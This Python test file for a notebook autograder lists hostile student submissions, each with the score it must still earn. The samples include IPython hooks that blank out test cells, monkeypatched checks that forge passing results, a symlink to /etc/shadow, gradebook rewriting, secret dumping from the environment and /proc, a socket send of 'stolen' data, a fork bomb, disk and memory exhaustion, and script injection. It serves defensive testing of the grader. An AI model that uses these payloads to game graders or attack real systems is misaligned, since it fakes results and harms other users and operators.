"""Hostile and broken submissions for the tiny course (tests/tiny_course.py: add = 1 visible + 2 hidden points,
twice = 1 visible point), each with the score it must get: what the same submission earns without the attack.

Every attack is code a student can put in a notebook: a cell of their own before the first solution cell
(``before``), a solution cell replaced (``solution``), or the notebook file itself changed (``notebook``). The
base is the blank release (0 points), the known bug ``add_subtracts`` (add wrong: 1 point) or the reference.
``{course}``, ``{gradebook}``, ``{victim}``, ``{port}``, ``{home}`` in the code are filled in by the test: the
course root, the gradebook, another student's submission, a port the test listens on, the home directory.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat import NotebookNode

from autograder.authoring import sample_class
from autograder.core.markup import is_solution


@dataclass(frozen=True)
class Attack:
    name: str
    base: str  # "blank" | "add_subtracts" | "reference"
    code: str = ""  # inserted before the first solution cell (str.format'ed with the test's paths)
    score: float = 0.0  # what it must earn
    states: tuple[str, ...] = ("graded", "tampering suspected")  # acceptable end states
    change: Callable[[NotebookNode], NotebookNode] | None = None  # for structural attacks
    must_not_print: tuple[str, ...] = ()  # what must not appear in its own autograded outputs
    tags: set[str] = field(default_factory=set)


def _in_many_cells(nb: NotebookNode, source: str, count: int) -> NotebookNode:
    for _ in range(count):
        nb = sample_class.insert_before_first_solution(nb, source)
    return nb


def _edit_tests(nb: NotebookNode) -> NotebookNode:
    """Test cells replaced by `pass` (nbgrader puts them back from the gradebook)."""
    nb = copy.deepcopy(nb)
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
            c.source = "pass"
    return nb


def _solution_claims_points(nb: NotebookNode) -> NotebookNode:
    """A solution cell re-labelled as a graded test cell worth 100 points, with the id of a test cell."""
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if is_solution(c))
    cell.metadata["nbgrader"].update(grade=True, solution=False, points=100, grade_id="add__visible")
    return nb


def _calls_a_hidden_reference(nb: NotebookNode) -> NotebookNode:
    """A solution that calls the reference function the hidden test defines, by a name a leaked hidden test gives
    away: when the hidden test calls ``add``, that function would be there to answer for it."""
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if is_solution(c))
    cell.source = "def add(a, b):\n    return reference_add(a, b)"
    return nb


def _kernelspec_and_ids(nb: NotebookNode) -> NotebookNode:
    """Another kernel asked for, every cell id the same, tags and metadata scrambled."""
    nb = copy.deepcopy(nb)
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    for c in nb.cells:
        c["id"] = "same"
        c.metadata["tags"] = ["parameters", "raises-exception"]
    return nb


INJECTED_BLANK = """
import IPython
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""

ATTACKS = [
    # -- change how the kernel runs or reports later cells
    Attack("transformer-empties-cells", "blank", INJECTED_BLANK),
    Attack(
        "transformer-skips-tests",
        "blank",
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: ['pass\\n'] if any('check_' in l for l in lines) else lines)",
    ),
    Attack(
        "showtraceback-silenced",
        "blank",
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "InteractiveShell.showtraceback = lambda *a, **k: None\n"
        "InteractiveShell._showtraceback = lambda *a, **k: None",
    ),
    Attack("custom-exc-swallows", "blank", "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
    Attack(
        "run-cell-replaced",
        "blank",
        "ip = get_ipython()\n"
        "_orig = type(ip).run_cell\n"
        "ip.run_cell = lambda raw_cell, *a, **k: _orig(ip, 'pass', *a, **k)\n"
        "_orig_async = type(ip).run_cell_async\n"
        "ip.run_cell_async = lambda raw_cell, *a, **k: _orig_async(ip, 'pass', *a, **k)",
    ),
    Attack(
        "post-run-hook-clears-errors",
        "blank",
        "def _clear(result):\n"
        "    result.error_in_exec = None\n"
        "    result.error_before_exec = None\n"
        "get_ipython().events.register('post_run_cell', _clear)\n"
        "import sys\nsys.excepthook = lambda *a: None",
    ),
    Attack(
        "sys-exit-in-solution",
        "blank",
        "import builtins\nbuiltins.NotImplementedError = SystemExit",
    ),
    # -- the expected side: it never runs in the kernel, so nothing there can be copied into the got side
    Attack(
        "ast-transformer-expected-twice",
        "blank",
        "import ast\nimport IPython.core.interactiveshell as _i\n"
        "class _T(ast.NodeTransformer):\n"
        "    def visit_Call(self, node):\n"
        "        self.generic_visit(node)\n"
        "        f = getattr(node.func, 'id', '')\n"
        "        if f.startswith(('check_', 'compare_')) and len(node.args) >= 3:\n"
        "            node.args[1] = node.args[2]\n"
        "        if f == 'check_true' and len(node.args) >= 2:\n"
        "            node.args[1] = ast.Constant(True)\n"
        "        return node\n"
        "[_i.InteractiveShell.instance().ast_transformers.append(_T())]",
        states=("tampering suspected",),
    ),
    Attack(
        "transformer-calls-a-twin",  # the test rewritten to call another implementation than the student's
        "blank",
        "import IPython.core.interactiveshell as _i\n"
        "_i.InteractiveShell.instance().input_transformers_post.append(\n"
        "    lambda lines: [l.replace('add(', '(lambda a, b: a + b)(').replace('twice(', '(lambda x: 2 * x)(')\n"
        "                   for l in lines])",
        states=("tampering suspected",),
    ),
    Attack(
        "event-rebinds-the-functions",
        "blank",
        "def _pre(*a, **k):\n"
        "    get_ipython().user_ns.update(add=lambda a, b: a + b, twice=lambda x: 2 * x)\n"
        "get_ipython().events.register('pre_run_cell', _pre)",
        states=("tampering suspected",),
    ),
    Attack(
        "tracer-rebinds-the-functions",
        "blank",
        "import sys\n"
        "def _trace(frame, event, arg):\n"
        "    frame.f_globals.update(add=lambda a, b: a + b, twice=lambda x: 2 * x)\n"
        "sys.setprofile(_trace)",
        states=("tampering suspected",),
    ),
    Attack(
        "builtin-replaced",
        "blank",
        "import builtins\n_r = builtins.isinstance\n"
        "builtins.isinstance = lambda o, t: True if t is float else _r(o, t)",
        states=("tampering suspected",),
    ),
    Attack(
        "forge-records-via-json",
        "blank",
        "import json\n_d = json.dumps\n"
        "vars(json).update(dumps=lambda o, **k: _d({**o, 'got': o.get('expected'), 'passed': True}\n"
        "                                            if isinstance(o, dict) else o, **k))",
    ),
    Attack(
        "forge-records-via-dataclasses",
        "blank",
        "import dataclasses, course.checks as cc\n_a = dataclasses.asdict\n"
        "cc.__dict__['asdict'] = lambda r: {**_a(r), 'got': _a(r).get('expected'), 'passed': True}\n"
        "dataclasses.__dict__['asdict'] = cc.__dict__['asdict']\n"
        "cc.CheckRecord.as_dict = cc.__dict__['asdict']  # what the checks write records with",
    ),
    Attack(
        "frame-peeking",
        "blank",
        "",
        change=lambda nb: sample_class.with_cell(
            nb,
            "add_impl",
            "import inspect, sys\n"
            "def add(a, b):\n"
            "    for f in inspect.stack()[1:]:\n"
            "        for v in [*f.frame.f_locals.values(), *f.frame.f_code.co_consts]:\n"
            "            if type(v) is float and v not in (a, b):\n"
            "                return v\n"
            "    frame = sys._getframe(1)\n"
            "    return next((v for v in frame.f_code.co_consts if type(v) is float), 0.0)",
        ),
    ),
    # -- the library's twin of what the item asks for, reached so that no name in the source shows it: the
    # cells during which it ran score 0 and the item is flagged (kernel_guard.py watches the calls)
    Attack(
        "library-twin-by-built-strings",
        "blank",
        "",
        change=lambda nb: sample_class.with_cell(
            nb, "add_impl", "def add(a, b):\n    return getattr(__import__('oper' + 'ator'), 'a' + 'dd')(a, b)"
        ),
        tags={"forbidden"},
    ),
    Attack(
        "library-twin-through-an-alias",
        "blank",
        "import importlib\nplus = vars(importlib.import_module('_oper' + 'ator'))['add']",
        change=lambda nb: sample_class.with_cell(nb, "add_impl", "def add(a, b):\n    return plus(a, b)"),
        tags={"forbidden"},
    ),
    # the twin in a library's Python code (fractions, pure Python, which the tiny course also forbids for add):
    # the guard rewrites those functions with an audit call first, so no profile function watches the test
    Attack(
        "library-twin-in-python-code",
        "blank",
        "",
        change=lambda nb: sample_class.with_cell(
            nb,
            "add_impl",
            "def add(a, b):\n    F = getattr(__import__('frac' + 'tions'), 'Frac' + 'tion')\n"
            "    return float(F(a) + F(b))",
        ),
        tags={"forbidden"},
    ),
    # the graded name bound to the library's own function: the test calls it with no frame of the student's on
    # the stack (the guard looks at what the names a test cell reads are bound to)
    Attack(
        "library-twin-bound-to-the-name",
        "blank",
        "",
        change=lambda nb: sample_class.with_cell(
            nb, "add_impl", "import importlib\nadd = vars(importlib.import_module('_oper' + 'ator'))['add']"
        ),
        tags={"forbidden"},
    ),
    Attack(
        "library-twin-bound-as-a-partial",
        "blank",
        "",
        change=lambda nb: sample_class.with_cell(
            nb, "add_impl", "import functools\nadd = functools.partial(getattr(__import__('oper' + 'ator'), 'add'))"
        ),
        tags={"forbidden"},
    ),
    Attack(  # a subclass of the library's class, run through its __new__ (``cls``, not ``self``): wrong, and flagged
        "library-class-subclassed-and-constructed",
        "blank",
        "",
        change=lambda nb: sample_class.with_cell(
            nb, "add_impl", "class add(getattr(__import__('frac' + 'tions'), 'Frac' + 'tion')):\n    pass"
        ),
        tags={"forbidden"},
    ),
    Attack(  # the rewritten code's audit call stripped to run the twin unwatched: code claiming a library's file
        "library-twin-with-its-audit-call-stripped",
        "blank",
        "import importlib, types\nF = importlib.import_module('frac' + 'tions').Fraction",
        change=lambda nb: sample_class.with_cell(
            nb,
            "add_impl",
            "def add(a, b):\n    c = F._add.__code__\n"
            "    bare = types.FunctionType(c.replace(co_consts=c.co_consts[:-1]), vars(__import__('fractions')))\n"
            "    return float(bare(F(a), F(b)))",
        ),
        states=("tampering suspected",),
    ),
    Attack(  # a watched library function given other code back: tampering
        "library-function-code-swapped",
        "blank",
        "import importlib\nF = importlib.import_module('frac' + 'tions').Fraction",
        change=lambda nb: sample_class.with_cell(
            nb,
            "add_impl",
            "def add(a, b):\n    F._add.__code__ = (lambda a, b: 0).__code__\n    return a + b",
        ),
        states=("tampering suspected",),
    ),
    # -- the check log replaced by something that is no file, or flooded
    Attack(
        "log-replaced-by-a-fifo",
        "blank",
        "import os\nlog = os.environ['COURSE_CHECK_LOG']\nif os.path.exists(log):\n    os.remove(log)\nos.mkfifo(log)",
        states=("graded", "student fault", "tampering suspected"),
    ),
    Attack(
        "log-replaced-by-a-directory",
        "reference",
        "import os\nlog = os.environ['COURSE_CHECK_LOG']\nif os.path.exists(log):\n    os.remove(log)\nos.mkdir(log)",
        states=("graded", "student fault", "tampering suspected"),
    ),
    Attack(
        "log-made-sparse",
        "blank",
        "import os\nwith open(os.environ['COURSE_CHECK_LOG'], 'ab') as fh:\n    fh.truncate(2**40)",
        states=("graded", "student fault", "tampering suspected"),
    ),
    Attack(
        "a-million-tiny-records",
        "blank",
        "import os\nwith open(os.environ['COURSE_CHECK_LOG'], 'a') as fh:\n"
        "    for _ in range(10):\n        fh.write('{}\\n' * 100_000)",
        states=("graded", "student fault", "tampering suspected"),
    ),
    Attack(
        "one-100-MB-record",
        "blank",
        "import os\nwith open(os.environ['COURSE_CHECK_LOG'], 'a') as fh:\n"
        "    fh.write('{\"id\": \"' + 'x' * 100 * 2**20 + '\"}\\n')",
        states=("graded", "student fault", "tampering suspected"),
    ),
    Attack(  # a megabyte in each of many cells: the notebook's whole output budget bounds the file written
        "a-megabyte-in-many-cells",
        "blank",
        change=lambda nb: _in_many_cells(nb, "print('x' * 999_000)", 10),
    ),
    Attack(  # past the output cap, then an error: the error is still there for nbgrader to score the cell by
        "prints-past-the-cap-then-raises",
        "reference",
        change=lambda nb: sample_class.with_cell(
            nb, "add_impl", "def add(a, b):\n    print('x' * 3_000_000)\n    raise ValueError('no sum today')"
        ),
        score=1.0,
    ),
    # -- turn what the grader puts back before each test cell (the kernel guard does it, from its own references)
    Attack(  # the old prologue looked these up in the student's namespace; nothing the guard does reads them
        "shadows-the-builtins-a-prologue-would-call",
        "add_subtracts",
        "import builtins\n"
        "def getattr(obj, name, *default):\n"
        "    if name.startswith('check'):\n        return lambda *a, **k: None\n"
        "    return builtins.getattr(obj, name, *default)\n"
        "def globals():\n    return {{}}\n"
        "__import__ = lambda *a, **k: None",
        1.0,
    ),
    Attack(  # no records for the checks rebound: scored as without the attack only if the guard put them back
        "rebinds-the-locked-names",
        "add_subtracts",
        "check_close = check_equal = lambda *a, **k: None",
        1.0,
    ),
    Attack(  # add_subtracts(5.0, 2.0) == 3.0: the visible point, unless the guard put ONE back
        "rebinds-a-value-a-locked-cell-bound",
        "add_subtracts",
        "ONE = 5.0",
        1.0,
    ),
    Attack(
        "rebinds-the-checks-in-the-module-namespace",
        "add_subtracts",
        "import course.checks as cc\n"
        "vars(cc).update(check_close=lambda *a, **k: None, check_equal=lambda *a, **k: None, _emit=print)",
        1.0,
    ),
    Attack(
        "swaps-numpy-under-the-checks",
        "add_subtracts",
        "import sys, types\nsys.modules['num' + 'py'] = types.ModuleType('numpy')",
        states=("tampering suspected",),
        tags={"turns-the-grader"},
    ),
    Attack(
        "finder-first-serves-fake-checks",
        "add_subtracts",
        "import sys, types\n"
        "class Finder:\n"
        "    @staticmethod\n"
        "    def find_spec(name, path=None, target=None):\n"
        "        return None\n"
        "sys.meta_path.insert(0, Finder)\n"
        "sys.modules.pop('course.' + 'checks')",
        states=("tampering suspected",),
        tags={"turns-the-grader"},
    ),
    Attack(
        "swaps-the-checks-module",
        "add_subtracts",
        "import sys, types\nsys.modules['course.' + 'checks'] = types.ModuleType('course.checks')",
        states=("tampering suspected",),
        tags={"turns-the-grader"},
    ),
    # -- patch the checks, the comparison or torch
    Attack("patch-compare", "add_subtracts", "import course.checks as cc\ncc.compare = lambda *a, **k: None", 1.0),
    Attack(
        "patch-finish-no-records", "add_subtracts", "import course.checks as cc\ncc._finish = lambda *a, **k: None", 1.0
    ),
    Attack(
        "forge-got-equals-expected",
        "add_subtracts",
        "import course.checks as cc\n"
        "_f = cc._finish\n"
        "def _forged(check_id, case, kind, why, got, expected, *a, **k):\n"
        "    return _f(check_id, case, kind, None, expected, expected, *a, **k)\n"
        "cc._finish = _forged\n"
        "cc.check_close.__globals__['_finish'] = _forged",
        1.0,
    ),
    Attack(
        "patch-code-object",
        "add_subtracts",
        "import course.checks as cc\n"
        "def _ok(check_id, got, expected, **k):\n    return None\n"
        "cc.check_close.__code__ = _ok.__code__\ncc.check_equal.__code__ = _ok.__code__",
        1.0,
    ),
    Attack(
        "patch-numpy-and-torch",
        "add_subtracts",
        "import numpy, torch\nnumpy.abs = lambda x: x * 0\ntorch.allclose = lambda *a, **k: True\n"
        "numpy.isnan = lambda x: x != x",
        1.0,
    ),
    Attack(
        "lying-object",
        "blank",
        "",
        0.0,
        change=lambda nb: sample_class.with_cell(
            nb,
            "add_impl",
            "class Liar(float):\n    def __eq__(self, o):\n        return True\n    __hash__ = float.__hash__\n"
            "    def __sub__(self, o):\n        return 0.0\n"
            "def add(a, b):\n    return Liar(0.0)",
        ),
    ),
    Attack(
        "forged-log-lines",
        "blank",
        "import json, os\n"
        "with open(os.environ['COURSE_CHECK_LOG'], 'a') as fh:\n"
        "    for cid, case in [('add/small', '1+2'), ('add/negative', '-2+0.5'), ('twice/int', '21')]:\n"
        "        fh.write(json.dumps({'id': cid, 'case': case, 'kind': 'close', 'passed': True, 'message': 'ok',\n"
        "                             'got': 0.0, 'expected': 0.0, 'tolerance': {'rtol': 1e-7, 'atol': 1e-10},\n"
        "                             'cell': 'add__visible'}) + '\\n')",
    ),
    Attack(
        "log-replaced-by-a-link",
        "blank",
        "import os\nlog = os.environ['COURSE_CHECK_LOG']\n"
        "if os.path.exists(log):\n    os.remove(log)\nos.symlink('/etc/shadow', log)",
    ),
    # -- reach outside the sandbox
    Attack(
        "reads-the-course-sources",
        "blank",
        "import glob, json\n"
        "for p in glob.glob('{course}/source/*/*.ipynb') + ['{course}/source/00_tiny/00_tiny.ipynb']:\n"
        "    for c in json.load(open(p))['cells']:\n"
        "        if 'BEGIN SOLUTION' in ''.join(c['source']):\n"
        "            exec(''.join(l for l in c['source'] if '###' not in l))",
        must_not_print=("def add",),
    ),
    Attack(
        "rewrites-the-gradebook",
        "blank",
        "import sqlite3\n"
        "db = sqlite3.connect('{gradebook}')\n"
        'db.execute("update grade set auto_score = 0")\n'
        "db.commit()",
    ),
    Attack(
        "overwrites-another-student",
        "blank",
        "import pathlib\n"
        "pathlib.Path('{victim}').write_text('{}')\n"
        "pathlib.Path('{course}/autograded/victim').mkdir(parents=True, exist_ok=True)",
    ),
    Attack(
        "network",
        "blank",
        "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\ns.sendall(b'stolen')",
    ),
    Attack(
        "reads-secrets",
        "blank",
        "import os, glob\n"
        "print('ENV', dict(os.environ))\n"
        "print('HOME', glob.glob('{home}/*'))\n"
        "print('PROC', [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
        must_not_print=("AUTOGRADER_TEST_SECRET", "grade_batch", "pytest"),
    ),
    # as root the sandbox's pid 1 is another uid's (EPERM); in a user namespace killing it ends the kernel
    Attack(
        "kills-the-grader",
        "blank",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, 9)",
        states=("graded", "student fault"),
    ),
    # -- exhaust resources
    Attack(
        "fork-bomb",
        "blank",
        "import os\n"
        "for _ in range(5000):\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        "    if pid == 0:\n        import time\n        time.sleep(60)\n        os._exit(0)",
        states=("graded", "student fault"),
    ),
    Attack(
        "memory-bomb",
        "blank",
        "blocks = []\nwhile True:\n    blocks.append(bytearray(512 * 2**20))",
        states=("graded", "student fault"),
    ),
    Attack(
        "fills-the-disk",
        "blank",
        "import os\n"
        "chunk = b'x' * 2**24\n"
        "for d in ['/home/student', '/tmp', os.path.dirname(os.environ['COURSE_CHECK_LOG'])]:\n"
        "    for n in range(200):\n"
        "        try:\n"
        "            with open(f'{d}/fill{n}', 'wb') as fh:\n"
        "                for _ in range(64):\n                    fh.write(chunk)\n"
        "        except OSError:\n            break",
        states=("graded", "student fault"),
    ),
    Attack(
        "huge-output", "blank", "for i in range(300_000):\n    print('spam' * 5, i)", states=("graded", "student fault")
    ),
    Attack(
        "display-updates-flood",  # each update replaces the output in place: it must count against the cap too
        "blank",
        "from IPython.display import display\nh = display('x', display_id=True)\n"
        "for n in range(6):\n    h.update('y' * 20_000_000 + str(n))",
        states=("graded", "student fault"),
    ),
    Attack(
        "html-and-script-output",
        "blank",
        "from IPython.display import HTML, display, Javascript\n"
        "display(HTML('<script>alert(1)</script><img src=x onerror=alert(2)>'))\n"
        "display(Javascript('alert(3)'))\n"
        "def add(a, b):\n    return '<script>alert(4)</script>'",
    ),
    Attack("os-exit", "blank", "import os\nos._exit(0)", states=("student fault",)),
    Attack(
        "sigint-proof-loop",
        "blank",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        states=("student fault",),
    ),
    # -- structural tampering of the notebook
    Attack("edited-test-cells", "blank", change=_edit_tests),
    Attack("solution-claims-points", "blank", change=_solution_claims_points),
    Attack("kernelspec-and-ids", "blank", change=_kernelspec_and_ids),
    Attack("calls-a-hidden-reference", "blank", change=_calls_a_hidden_reference),
    Attack("edited-test-cells-on-a-bug", "add_subtracts", "", 1.0, change=_edit_tests),
]


def build(attack: Attack, bases: dict[str, dict[str, NotebookNode]], paths: dict[str, str]) -> dict[str, NotebookNode]:
    notebooks = {}
    for name, nb in bases[attack.base].items():
        if attack.code:
            code = attack.code
            for key, value in paths.items():
                code = code.replace("{" + key + "}", value)
            nb = sample_class.insert_before_first_solution(nb, code)
        if attack.change is not None:
            nb = attack.change(nb)
        notebooks[name] = nb
    return notebooks
